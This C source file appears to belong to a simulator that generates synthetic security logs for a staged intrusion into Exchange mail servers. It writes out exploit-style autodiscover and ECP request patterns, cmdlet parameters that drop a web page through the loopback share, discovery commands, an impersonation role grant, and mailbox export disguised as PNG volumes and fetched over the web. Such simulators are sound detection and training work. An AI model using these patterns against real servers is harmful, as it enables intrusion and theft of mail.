/* b_mail.c - scenario B on the mail servers: probing, entry, control, and the mail. */
#include <stdio.h>

#include "b.h"

#define SCRIPT_UA "python-requests/2.28.2"
#define PAGES "C:\\Program Files\\Microsoft\\Exchange Server\\V15\\FrontEnd\\HttpProxy\\owa\\auth\\"

static struct process kernel_of(struct world *w, uint32_t host)
{
	struct process p = w->hosts.at[host].services;

	p.pid = 4;
	p.image = "System";
	p.command = "";
	return p;
}

/* --- B0: probing ------------------------------------------------------------------------------ */

static void probe(struct world *w, int64_t t, uint32_t number, uint32_t unused)
{
	static const struct {
		enum text_log protocol;
		const char *stem, *query;
		uint16_t status;
	} LOOKS[] = { { LOG_HP_OWA, "/owa/auth/logon.aspx", NULL, 200 },
		      { LOG_HP_OWA, "/owa/auth/15.2.1258/themes/resources/favicon.ico", NULL, 200 },
		      { LOG_HP_ECP,
			"/ecp/Current/exporttool/microsoft.exchange.ediscovery.exporttool.application", NULL,
			302 },
		      { LOG_HP_AUTODISCOVER, "/autodiscover/autodiscover.json", "@any.example/owa", 401 },
		      { LOG_HP_EWS, "/EWS/Exchange.asmx", NULL, 401 } };
	struct b_plan *b = b_of(w);
	struct rng r = rng_stream(w->seed, "probe-b", number);

	b_step(w, "reconnaissance", "the mail server is looked at from outside", b->mx[0], NOWHERE,
	       OBS_WEB_PROBE, 0, t);
	for (uint32_t i = 0, n = 8 + rng_below(&r, 8); i < n; i++) {
		uint32_t k = rng_below(&r, COUNT(LOOKS));

		act_exchange(w, b->mx[i % 2],
			     &(struct exch){ .t = t,
					     .client = b->relay[number % 2],
					     .protocol = LOOKS[k].protocol,
					     .stem = LOOKS[k].stem,
					     .query = LOOKS[k].query,
					     .agent = b->ua,
					     .method = "GET",
					     .status = LOOKS[k].status,
					     .in = 600,
					     .out = 3000,
					     .ms = 12 });
		t += within(&r, 1, 9);
	}
}

/* --- B1: entry -------------------------------------------------------------------------------- */

static void enter_by_request(struct world *w, const struct b_plan *b, struct rng *r, int64_t t)
{
	const struct host *h = &w->hosts.at[b->mx[0]];
	const char *anchor =
		world_text(w, "ServerInfo~%s@%s:444/ecp/DDI/DDIService.svc/SetObject?msExchEcpCanary=%s.",
			   b->canary + 12, h->fqdn, b->canary);
	char url[200];

	for (uint32_t i = 0, n = 14 + rng_below(r, 20); i < n; i++) {
		act_exchange(w, b->mx[0],
			     &(struct exch){ .t = t,
					     .client = b->relay[1],
					     .protocol = LOG_HP_ECP,
					     .stem = b->letter,
					     .agent = i < 6 ? SCRIPT_UA : b->ua,
					     .method = "POST",
					     .anchor = anchor,
					     .hint = "X-BEResource-Cookie",
					     .status = i % 7 == 3 ? 241 : 200,
					     .back_status = i % 7 == 3 ? 241 : 200,
					     .in = 340 + 20 * i,
					     .out = 3900,
					     .ms = 73 });
		t += rng_between(r, 4, 60) * SECOND;
	}
	snprintf(url, sizeof url,
		 "/ecp/DDI/DDIService.svc/SetObject?schema=ResetOABVirtualDirectory&msExchEcpCanary=%s.",
		 b->canary);
	row_ecp(w, b->mx[0], t, "Set-OabVirtualDirectory.ExternalUrl='...'", url);
}

static void enter_by_path(struct world *w, const struct b_plan *b, struct rng *r, int64_t t)
{
	static const char *const TARGETS[] = { "/mapi/nspi/", "/powershell/",
					       "/powershell/?X-Rps-CAT=TOKEN" };

	for (uint32_t i = 0, n = 14 + rng_below(r, 20); i < n; i++) {
		char query[200];

		snprintf(query, sizeof query,
			 "@%s.example%s&Email=autodiscover/autodiscover.json%%3F@%s.example", b->stage_name,
			 TARGETS[i % 3], b->stage_name);
		act_exchange(w, b->mx[0],
			     &(struct exch){ .t = t,
					     .client = b->relay[1],
					     .protocol = LOG_HP_AUTODISCOVER,
					     .stem = "/autodiscover/autodiscover.json",
					     .query = query,
					     .agent = i < 6 ? SCRIPT_UA : b->ua,
					     .method = "POST",
					     .status = i < 2 ? 401 : 200,
					     .back_status = i < 2 ? 0 : 200,
					     .in = 900,
					     .out = 2200,
					     .ms = 90 });
		if (i % 3 == 2)
			act_exchange(w, b->mx[0],
				     &(struct exch){ .t = t + SECOND,
						     .client = w->hosts.at[b->mx[0]].ip,
						     .protocol = LOG_HP_POWERSHELL,
						     .stem = "/powershell",
						     .agent = "Microsoft WinRM Client",
						     .method = "POST",
						     .status = 200,
						     .back_status = 200,
						     .user = world_text(w, "%s\\SYSTEM",
									w->orgs.at[b->org[0]].domain),
						     .in = 4000,
						     .out = 9000,
						     .ms = 300 });
		t += rng_between(r, 4, 60) * SECOND;
	}
}

static void enter(struct world *w, int64_t t, uint32_t unused_a, uint32_t unused_b)
{
	struct b_plan *b = b_of(w);
	struct host *h = &w->hosts.at[b->mx[0]];
	struct rng r = rng_stream(w->seed, "enter-b", 0);

	h->state = STATE_COMPROMISED;
	h->compromised = t;
	h->via = "public-facing application";
	b_step(w, "initial-access", "requests that reach the back end without a logon", b->mx[0], NOWHERE,
	       OBS_WEB_POST_NEW, SHOWS_CONTROL, t);
	if (b->entry_by == B_SSRF)
		enter_by_request(w, b, &r, t);
	else
		enter_by_path(w, b, &r, t);
}

/* --- B2, B3: a page, and what it is used for ---------------------------------------------------- */

static const char *page_path(struct world *w, const struct b_plan *b)
{
	return world_text(w, PAGES "%s", b->page);
}

static const char *page_url(struct world *w, const struct b_plan *b)
{
	return world_text(w, "/owa/auth/%s", b->page);
}

static void use_page(struct world *w, const struct b_plan *b, int64_t t, const char *method, uint64_t in,
		     uint64_t out)
{
	act_exchange(w, b->mx[0],
		     &(struct exch){ .t = t,
				     .client = b_relay(b, t),
				     .stem = page_url(w, b),
				     .agent = b->ua,
				     .method = method,
				     .status = 200,
				     .in = in,
				     .out = out,
				     .ms = 300 + (uint32_t)(in % 5000),
				     .iis_only = true });
}

static void drop_page(struct world *w, int64_t t, uint32_t unused_a, uint32_t unused_b)
{
	struct b_plan *b = b_of(w);
	struct process pool = b_pool(w, b->mx[0], "MSExchangeOWAAppPool"), kernel = kernel_of(w, b->mx[0]), p;
	struct host *h = &w->hosts.at[b->mx[0]];
	const char *path = page_path(w, b), *cmdlet = "Set-OabVirtualDirectory", *parameters = NULL;

	if (b->drop_by == B_EXPORT) {
		cmdlet = "New-MailboxExportRequest";
		parameters = world_text(w, "-Mailbox \"%s\" -FilePath \"\\\\127.0.0.1\\C$\\%s\"",
					w->people.at[b->mailbox[0]].user, path + 3);
	} else if (b->drop_by == B_CERTIFICATE) {
		cmdlet = "New-ExchangeCertificate";
		parameters =
			world_text(w, "-GenerateRequest -RequestFile \"\\\\127.0.0.1\\C$\\%s\"", path + 3);
	} else {
		parameters = world_text(
			w, "-ExternalUrl \"http://%s/#\" -Identity \"OAB (Default Web Site)\"", b->canary);
	}
	b_step(w, "execution", "mail administration writes where it should not", b->mx[0], NOWHERE,
	       OBS_CMDLET, SHOWS_CONTROL, t);
	act_cmdlet(w, b->mx[0], t, "SYSTEM", &SID_SYSTEM, cmdlet, parameters);
	if (b->drop_by == B_VDIR && ev_begin(w, b->mx[0], D_APP_ISAPI, t + SECOND)) {
		ev_data(w, "MSExchangeOABAppPool\x1f[Oab] Application shutting down");
		ev_end(w);
	}
	b_step(w, "persistence", "a page is written over the loopback share", b->mx[0], NOWHERE,
	       OBS_PAGE_FILE, SHOWS_CONTROL, t + 4 * SECOND);
	act_share_loopback(w, b->mx[0], t + 4 * SECOND, "C$", path + 3);
	act_file(w, b->mx[0], t + 4 * SECOND + 20 * MS, &kernel, path);
	b_step(w, "execution", "the page is asked for and compiled", b->mx[0], NOWHERE, OBS_WEB_PAGE,
	       SHOWS_CONTROL, t + MINUTE);
	use_page(w, b, t + MINUTE, "GET", 500, 1200);
	b_step(w, "execution", "the web server compiles it", b->mx[0], NOWHERE, OBS_SERVER_CHILD,
	       SHOWS_CONTROL, t + MINUTE);
	p = act_process(
		w, b->mx[0], t + MINUTE, &pool, &h->local,
		&(struct start){
			"C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\csc.exe",
			"\"C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\csc.exe\" /noconfig /fullpaths @\"C:\\Windows\\TEMP\\page.cmdline\"",
			NULL, NULL });
	act_file(
		w, b->mx[0], t + MINUTE + 2 * SECOND, &pool,
		world_text(
			w,
			"C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\Temporary ASP.NET Files\\owa\\8e05b027\\e164d61b\\%s.cdcab7d2.compiled",
			b->page));
	act_process_end(w, b->mx[0], t + MINUTE + 3 * SECOND, &p);
}

static void hands_on(struct world *w, int64_t t, uint32_t number, uint32_t unused)
{
	static const char *const LOOKS[][2] = {
		{ "C:\\Windows\\System32\\whoami.exe", "whoami" },
		{ "C:\\Windows\\System32\\net.exe", "net group \"Exchange Trusted Subsystem\" /domain" },
		{ "C:\\Windows\\System32\\nltest.exe", "nltest /domain_trusts" },
		{ "C:\\Windows\\System32\\ipconfig.exe", "ipconfig /all" },
		{ "C:\\Windows\\System32\\quser.exe", "quser" }
	};
	struct b_plan *b = b_of(w);
	struct host *h = &w->hosts.at[b->mx[0]];
	struct process pool = b_pool(w, b->mx[0], "MSExchangeOWAAppPool"), shell, p;
	struct rng r = rng_stream(w->seed, "hands", number);

	b_step(w, "command-and-control", "the page is used", b->mx[0], NOWHERE, OBS_WEB_PAGE, SHOWS_CONTROL,
	       t);
	for (uint32_t i = 0, n = 4 + rng_below(&r, 8); i < n; i++) {
		uint64_t in = (uint64_t)rng_between(&r, 400, 9000);

		use_page(w, b, t + i * 45 * SECOND, "POST", in, (uint64_t)rng_between(&r, 200, 30000));
	}
	b_step(w, "execution", "the web server starts a shell", b->mx[0], NOWHERE, OBS_SERVER_CHILD,
	       SHOWS_CONTROL, t + SECOND);
	shell = act_process(
		w, b->mx[0], t + SECOND, &pool, &h->local,
		&(struct start){ "C:\\Windows\\System32\\cmd.exe", "\"cmd.exe\" /c whoami", NULL, NULL });
	b_step(w, "discovery", "a look around", b->mx[0], NOWHERE, OBS_DISCOVERY, SHOWS_CONTROL,
	       t + 2 * SECOND);
	for (size_t i = 0; i < COUNT(LOOKS); i++) {
		p = act_process(w, b->mx[0], t + (int64_t)(2 + 40 * i) * SECOND, &shell, &h->local,
				&(struct start){ LOOKS[i][0], LOOKS[i][1], NULL, NULL });
		act_process_end(w, b->mx[0], t + (int64_t)(3 + 40 * i) * SECOND, &p);
	}
}

static void stay(struct world *w, int64_t t, uint32_t unused_a, uint32_t unused_b)
{
	struct b_plan *b = b_of(w);
	struct process pool = b_pool(w, b->mx[0], "MSExchangeOWAAppPool");

	if (b->keep_by == B_MODULE) {
		b_step(w, "persistence", "a module is added to the web server", b->mx[0], NOWHERE, OBS_CONFIG,
		       SHOWS_CONTROL, t);
		act_file(w, b->mx[0], t - 30 * SECOND, &pool, b->module);
		if (ev_begin(w, b->mx[0], D_IIS_CONFIG, t)) {
			ev_n(w, "EditOperationType", 1);
			ev_z(w, "ConfigPath", "MACHINE/WEBROOT/APPHOST");
			ev_f(w, "Configuration", "/system.webServer/globalModules/add[@name='%s']",
			     b->stage_name);
			ev_z(w, "NewValue", b->module);
			ev_end(w);
		}
		b_step(w, "persistence", "the module is loaded, unsigned", b->mx[0], NOWHERE, OBS_MODULE,
		       SHOWS_CONTROL, t + MINUTE);
		act_image(w, b->mx[0], t + MINUTE, &pool, b->module, false, "module");
		world_artefact(w, &(struct artefact){ .kind = "implant",
						      .host = b->mx[0],
						      .path = b->module,
						      .name = b->module,
						      .sha256 = world_hash(w, "module") });
	} else {
		b_step(w, "persistence", "a transport agent is installed", b->mx[0], NOWHERE, OBS_CMDLET,
		       SHOWS_CONTROL, t);
		act_file(w, b->mx[0], t - 30 * SECOND, &pool, b->agent_path);
		act_cmdlet(
			w, b->mx[0], t, "SYSTEM", &SID_SYSTEM, "Install-TransportAgent",
			world_text(w,
				   "-Name \"%s\" -TransportAgentFactory \"%s.Factory\" -AssemblyPath \"%s\"",
				   b->agent_name, b->stage_name, b->agent_path));
		world_artefact(w, &(struct artefact){ .kind = "implant",
						      .host = b->mx[0],
						      .path = b->agent_path,
						      .name = b->agent_path,
						      .sha256 = world_hash(w, "agent") });
	}
}

/* Afterwards the page rests; traffic hides in posts to the logon page whose sizes no logon has. */
static void hidden(struct world *w, int64_t t, uint32_t step, uint32_t unused)
{
	struct b_plan *b = b_of(w);
	struct rng *r = &w->hosts.at[b->mx[0]].rng;

	if (step)
		w->step = step;
	else
		step = 1 + b_step(w, "command-and-control", "traffic hides in the logon page", b->mx[0],
				  NOWHERE, OBS_WEB_PAGE, SHOWS_CONTROL, t);
	for (uint32_t i = 0, n = 2 + rng_below(r, 5); i < n; i++) {
		uint64_t in = (uint64_t)rng_between(r, 6000, 90000),
			 out = (uint64_t)rng_between(r, 40000, 900000);

		act_exchange(w, b->mx[0],
			     &(struct exch){ .t = t + i * 40 * SECOND,
					     .client = b_relay(b, t),
					     .protocol = LOG_HP_OWA,
					     .stem = "/owa/auth/logon.aspx",
					     .agent = b->ua,
					     .method = "POST",
					     .status = 200,
					     .in = in,
					     .out = out,
					     .ms = (uint32_t)rng_between(r, 300, 6000) });
	}
	t += DAY + rng_between(r, -90, 90) * MINUTE;
	if (t < b->end)
		agenda_add(w, t, hidden, step, 0);
}

/* --- B5: mail ----------------------------------------------------------------------------------- */

static void grant(struct world *w, int64_t t, uint32_t unused_a, uint32_t unused_b)
{
	struct b_plan *b = b_of(w);
	const char *user = w->people.at[b->service_account].user;

	b_step(w, "persistence", "an account may read every mailbox", b->mx[0], NOWHERE, OBS_CMDLET,
	       SHOWS_CONTROL, t);
	act_cmdlet(w, b->mx[0], t, "SYSTEM", &SID_SYSTEM, "New-ManagementRoleAssignment",
		   world_text(w, "-Name \"Impersonation %s\" -Role \"ApplicationImpersonation\" -User \"%s\"",
			      user, user));
}

/* A night of reading: the position of each mailbox goes on where it stood, whatever the relay. */
static void read_mail(struct world *w, int64_t t, uint32_t number, uint32_t unused)
{
	static const char *const ACTIONS[] = { "SyncFolderItems", "GetItem", "GetItem", "GetItem",
					       "GetAttachment" };
	struct b_plan *b = b_of(w);
	struct rng r = rng_stream(w->seed, "mail", number);
	const char *account =
		world_text(w, "%s\\%s", w->orgs.at[b->org[0]].domain, w->people.at[b->service_account].user);
	uint32_t server = b->mx[number % b->nmx];

	for (uint32_t m = 0; m < 1 + b->nmailbox / 20; m++) {
		uint32_t person = b->mailbox[(number * 3 + m) % b->nmailbox];
		uint64_t taken = 0;
		const char *address = b_address(w, person);
		uint32_t step = b_step(w, "collection", "mail is read through impersonation", server, NOWHERE,
				       OBS_MAIL_ACCESS, 0, t);
		int64_t from = t;

		for (uint32_t i = 0, n = 10 + rng_below(&r, 10); i < n; i++) {
			uint64_t size = (uint64_t)rng_between(&r, 600000, 9000000);

			act_exchange(w, server,
				     &(struct exch){ .t = t,
						     .client = b_relay(b, t),
						     .protocol = LOG_HP_EWS,
						     .stem = "/EWS/Exchange.asmx",
						     .agent = b->ews_ua,
						     .user = account,
						     .method = "POST",
						     .action = ACTIONS[i % COUNT(ACTIONS)],
						     .mailbox = address,
						     .status = 200,
						     .back_status = 200,
						     .in = 1900,
						     .out = size,
						     .ms = 900 });
			taken += size;
			t += rng_between(&r, 20, 200) * SECOND;
		}
		world_loss(w, &(struct loss){ server, b_relay(b, from), "ews-impersonation", "B", address,
					      from, t, taken, step });
	}
}

/* A whole mailbox is exported, split, and fetched as pictures. */
static void export_mailbox(struct world *w, int64_t t, uint32_t number, uint32_t unused)
{
	struct b_plan *b = b_of(w);
	struct rng r = rng_stream(w->seed, "export", number);
	uint32_t person = b->mailbox[number % b->nmailbox], server = b->mx[1], relay = b->relay[3], step;
	uint64_t size = (uint64_t)rng_between(&r, 10, 60) * 100000000, parts = size / 209715200 + 1;
	struct host *h = &w->hosts.at[server];
	struct process pool = b_pool(w, server, "MSExchangeOWAAppPool"), packer;
	const char *url = world_text(w, "/owa/auth/%s%u.png", b->stage_name, number);

	b_step(w, "collection", "a mailbox is exported", server, NOWHERE, OBS_CMDLET, SHOWS_CONTROL, t);
	act_cmdlet(w, server, t, w->people.at[b->service_account].user, &w->people.at[b->service_account].sid,
		   "New-MailboxExportRequest",
		   world_text(w, "-Mailbox \"%s\" -FilePath \"\\\\%s\\c$\\%s\\%s.pst\"",
			      w->people.at[person].user, h->name, b->pst_folder, w->people.at[person].user));
	b_step(w, "collection", "the export is packed into volumes", server, NOWHERE, OBS_ARCHIVE,
	       SHOWS_CONTROL, t + HOUR);
	packer = act_process(
		w, server, t + HOUR, &pool, &h->local,
		&(struct start){ world_text(w, "%s\\%.3s.exe", b->archive_folder, b->canary),
				 world_text(w, "%.3s.exe a -v200m -m0 C:\\%s\\%s.png C:\\%s\\%s.pst",
					    b->canary, b->pst_folder, b->stage_name, b->pst_folder,
					    w->people.at[person].user),
				 "packer-b", "Rar.exe" });
	for (uint64_t i = 0; i < parts && i < 12; i++)
		act_file(w, server, t + HOUR + (int64_t)i * 20 * SECOND, &packer,
			 world_text(w, PAGES "%s%u.part%02u.png", b->stage_name, number, (unsigned)i));
	step = b_step(w, "exfiltration", "volumes are fetched through the web server", server, NOWHERE,
		      OBS_UPLOAD, 0, t + 2 * HOUR);
	for (uint64_t i = 0; i < parts; i++) {
		uint64_t part = i + 1 < parts ? 209715200 : size - i * 209715200;

		act_exchange(w, server,
			     &(struct exch){ .t = t + 2 * HOUR + (int64_t)i * 4 * MINUTE,
					     .client = relay,
					     .stem = url,
					     .agent = b->ua,
					     .method = "GET",
					     .status = 206,
					     .in = 500,
					     .out = part,
					     .ms = 180000,
					     .iis_only = true });
	}
	world_artefact(w, &(struct artefact){ .kind = "staged-archive",
					      .host = server,
					      .path = world_text(w, "C:\\%s\\%s.pst", b->pst_folder,
								 w->people.at[person].user),
					      .size = size });
	world_loss(w, &(struct loss){ server, relay, "pst-export", "B", b_address(w, person), t + 2 * HOUR,
				      t + 3 * HOUR, size, step });
}

static void forwarded(struct world *w, int64_t t, uint32_t number, uint32_t day)
{
	struct b_plan *b = b_of(w);
	uint32_t person = b->mailbox[b->nmailbox - 1 - number % b->nmailbox], server = b->mx[person % b->nmx],
		 step;
	const char *address = b_address(w, person);
	struct rng r = rng_stream(w->seed, "forward", number * 1000 + day);
	uint64_t size = (uint64_t)rng_between(&r, 40000, 4000000);

	if (day == 0) {
		b_step(w, "collection", "a mailbox forwards copies", server, NOWHERE, OBS_CMDLET,
		       SHOWS_CONTROL, t);
		act_cmdlet(
			w, server, t, w->people.at[b->service_account].user,
			&w->people.at[b->service_account].sid, "Set-Mailbox",
			world_text(
				w,
				"-Identity \"%s\" -ForwardingSmtpAddress \"smtp:%s\" -DeliverToMailboxAndForward \"True\"",
				address, b->forward_to));
	}
	step = b_step(w, "exfiltration", "a copy leaves by mail", server, NOWHERE, OBS_MAIL_FORWARD, 0,
		      t + HOUR);
	row_mail(w, server,
		 &(struct mail){ .t = t + HOUR,
				 .from = "contact@partner-7.example",
				 .to = address,
				 .subject = "Re: schedule",
				 .bytes = size,
				 .client = b->mail_drop,
				 .inbound = true,
				 .redirect = b->forward_to });
	world_loss(w, &(struct loss){ server, b->mail_drop, "forward", "B", address, t + HOUR, t + HOUR, size,
				      step });
	if (t + 3 * DAY < b->end && day < 60)
		agenda_add(w, t + 3 * DAY + within(&r, 0, 300), forwarded, number, day + 1);
}

void b_mail_plan(struct world *w, struct b_plan *b)
{
	struct rng r = rng_stream(w->seed, "mail-plan", 0);
	int64_t first = (b->mail - w->from) / DAY + 1, last = (b->end - w->from) / DAY;

	b->mail_drop = 0xc0000219;
	for (uint32_t i = 0; i < 4; i++)
		if (b->entry - (8 - 2 * (int64_t)i) * DAY > w->from)
			agenda_add(w, b->entry - (8 - 2 * (int64_t)i) * DAY, probe, i, 0);
	agenda_add(w, b->entry, enter, 0, 0);
	agenda_add(w, b->drop, drop_page, 0, 0);
	for (uint32_t i = 0; b->drop + HOUR + i * DAY < b->keep; i++)
		agenda_add(w, b->drop + 10 * MINUTE + i * DAY + within(&r, 0, 40), hands_on, i, 0);
	agenda_add(w, b->keep, stay, 0, 0);
	agenda_add(w, b->keep + DAY, hidden, 0, 0);
	agenda_add(w, b->mail, grant, 0, 0);
	for (int64_t day = first; day < last; day++)
		if (rng_chance(&r, 93))
			agenda_add(w, at_hour(w, day, 2, 0) + within(&r, 0, 100), read_mail, (uint32_t)day,
				   0);
	for (uint32_t i = 0; i < 2; i++) {
		agenda_add(w, at_hour(w, first + (last - first) * (1 + i) / 4, 2, 10) + within(&r, 0, 60),
			   export_mailbox, i, 0);
		agenda_add(w, at_hour(w, first + (last - first) * (1 + i) / 5, 3, 10) + within(&r, 0, 60),
			   forwarded, i, 0);
	}
}
